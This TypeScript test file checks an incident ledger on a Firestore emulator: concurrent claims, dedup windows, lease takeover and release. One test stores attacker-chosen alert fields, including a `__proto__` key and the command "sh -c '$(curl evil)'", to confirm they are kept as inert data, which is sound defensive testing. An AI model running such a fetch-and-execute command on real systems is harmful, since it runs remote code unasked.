import { AlertSummary, severityOf } from "@riposte/contracts";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { INCIDENTS, type RoutingDecisionRecord } from "./incident.js";
import { emulatorFirestore, incidentKey, testLedger, uniqueProjectId } from "./test-support.js";

const projectId = uniqueProjectId();
const firstInstance = emulatorFirestore(projectId);
const secondInstance = emulatorFirestore(projectId);

beforeAll(
  () => Promise.all([testLedger(firstInstance).warmUp(), testLedger(secondInstance).warmUp()]),
  30_000,
);
afterAll(() => Promise.all([firstInstance.terminate(), secondInstance.terminate()]));

const decision: RoutingDecisionRecord = {
  playbooks: ["kill-crypto-miners"],
  actions: [{ action: "kill-pod", dryRun: false, playbooks: ["kill-crypto-miners"] }],
};
const window = { dedupWindowMs: 60_000 };

describe("claimIncident", { timeout: 30_000 }, () => {
  it("lets exactly one of two concurrent routers (two instances) claim an incident", async () => {
    const first = testLedger(firstInstance);
    const second = testLedger(secondInstance);
    for (let round = 0; round < 5; round += 1) {
      const key = incidentKey();
      const results = await Promise.all([
        first.claimIncident(key, decision, window),
        second.claimIncident(key, decision, window),
      ]);
      expect(results.map((result) => result.outcome).sort()).toEqual(["claimed", "duplicate"]);
    }
  });

  it("answers duplicate within the dedup window, and claims again after it", async () => {
    let now = new Date("2026-12-05T10:00:00Z");
    const ledger = testLedger(firstInstance, { now: () => now });
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, window);
    expect(claimed.outcome).toBe("claimed");
    if (claimed.outcome !== "claimed") return;
    expect(await ledger.markRouted(key, claimed.claimId)).toBe(true);

    now = new Date("2026-12-05T10:00:59Z");
    expect(await ledger.claimIncident(key, decision, window)).toMatchObject({
      outcome: "duplicate",
      state: "routed",
    });
    now = new Date("2026-12-05T10:01:01Z");
    expect(await ledger.claimIncident(key, decision, window)).toMatchObject({ outcome: "claimed" });
  });

  it("lets a redelivery route again when the claim was released (publishing failed)", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, window);
    if (claimed.outcome !== "claimed") throw new Error("expected a claim");
    expect(await ledger.releaseClaim(key, claimed.claimId)).toBe(true);
    expect(await ledger.claimIncident(key, decision, window)).toMatchObject({ outcome: "claimed" });
  });

  it("lets another router take over a claim whose router vanished while routing (lease over)", async () => {
    let now = new Date("2026-12-05T10:00:00Z");
    const ledger = testLedger(firstInstance, { now: () => now });
    const key = incidentKey();
    const stale = await ledger.claimIncident(key, decision, { ...window, leaseMs: 30_000 });
    expect(stale.outcome).toBe("claimed");
    now = new Date("2026-12-05T10:00:20Z");
    expect(await ledger.claimIncident(key, decision, { ...window, leaseMs: 30_000 })).toMatchObject({
      outcome: "duplicate",
      state: "routing",
    });
    now = new Date("2026-12-05T10:00:31Z");
    const taken = await ledger.claimIncident(key, decision, { ...window, leaseMs: 30_000 });
    expect(taken.outcome).toBe("claimed");
    // The vanished router's late completion does not overwrite the new claim, with or without the
    // version of its own claim.
    if (stale.outcome !== "claimed") throw new Error("expected a claim");
    expect(await ledger.markRouted(key, stale.claimId, stale.version)).toBe(false);
    expect(await ledger.markRouted(key, stale.claimId)).toBe(false);
    now = new Date("2026-12-05T10:00:40Z");
    expect(await ledger.claimIncident(key, decision, { ...window, leaseMs: 30_000 })).toMatchObject({
      outcome: "duplicate",
      state: "routing",
    });
  });

  it("marks routed with one preconditioned write when nobody wrote the incident since its claim", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, window);
    if (claimed.outcome !== "claimed") throw new Error("expected a claim");
    expect(claimed.version).toBeDefined();
    const transactions = vi.spyOn(firstInstance, "runTransaction");
    try {
      expect(await ledger.markRouted(key, claimed.claimId, claimed.version)).toBe(true);
      expect(transactions).not.toHaveBeenCalled();
    } finally {
      transactions.mockRestore();
    }
    expect(await ledger.claimIncident(key, decision, window)).toMatchObject({
      outcome: "duplicate",
      state: "routed",
    });
  });

  it("answers 'not ours' (not an error) when the incident was deleted between the claim and the mark", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, window);
    if (claimed.outcome !== "claimed") throw new Error("expected a claim");
    await firstInstance.collection(INCIDENTS).doc(key).delete();
    expect(await ledger.markRouted(key, claimed.claimId, claimed.version)).toBe(false);
  });

  it("still marks routed when another service wrote the incident between the claim and the mark", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, window);
    if (claimed.outcome !== "claimed") throw new Error("expected a claim");
    // What an actioner recording its attempt does to the same document meanwhile.
    await ledger.recordTraceId(key, "0af7651916cd43dd8448eb211c80319c");
    expect(await ledger.markRouted(key, claimed.claimId, claimed.version)).toBe(true);
    expect(await ledger.claimIncident(key, decision, window)).toMatchObject({
      outcome: "duplicate",
      state: "routed",
    });
  });

  it("gives the same claim back to a redelivery of the message that claimed (same claimant)", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    const claimed = await ledger.claimIncident(key, decision, { ...window, claimant: "message-1" });
    const again = await ledger.claimIncident(key, decision, { ...window, claimant: "message-1" });
    const resent = await ledger.claimIncident(key, decision, { ...window, claimant: "message-2" });
    expect(again).toMatchObject({ outcome: "claimed", claimId: (claimed as { claimId: string }).claimId });
    expect(resent).toMatchObject({ outcome: "duplicate" });
  });

  it("stores the alert's attacker-chosen field names and text as data, and reads them back as they were", async () => {
    const ledger = testLedger(firstInstance);
    const key = incidentKey();
    // Parsed from text, as alerts arrive: a `__proto__` key is then an own key, not a prototype.
    const outputFields = JSON.parse(
      `{"__name__": "x", "a.b": "\`y\`", "__proto__": "z", "proc.cmdline": "sh -c '$(curl evil)'"}`,
    );
    const alert = {
      rule: "Terminal shell in container",
      priority: "Critical" as const,
      severity: severityOf("Critical"),
      time: "2026-12-05T10:00:00.123456789Z",
      timeNs: "1796292000123456789",
      tags: ["container", "__tag__"],
      output: "shell \u0000 <b>spawned</b> \n in /",
      outputFields,
    };
    expect(await ledger.claimIncident(key, decision, { ...window, alert })).toMatchObject({
      outcome: "claimed",
    });
    const stored = await ledger.readIncident(key);
    // As the alert summary schema gives it (zod's records leave a `__proto__` key out).
    expect(stored?.alert).toEqual(AlertSummary.parse(alert));
    expect(Object.keys(stored?.alert?.outputFields ?? {})).toEqual(["__name__", "a.b", "proc.cmdline"]);
    expect(Object.getPrototypeOf(stored?.alert?.outputFields)).toBe(Object.prototype);
  });

  it("refuses a key that is not an incident key before reaching Firestore", async () => {
    const ledger = testLedger(firstInstance);
    await expect(ledger.claimIncident("__name__", decision, window)).rejects.toThrow(/incident key/);
    await expect(ledger.claimIncident("a/b", decision, window)).rejects.toThrow(/incident key/);
  });
});
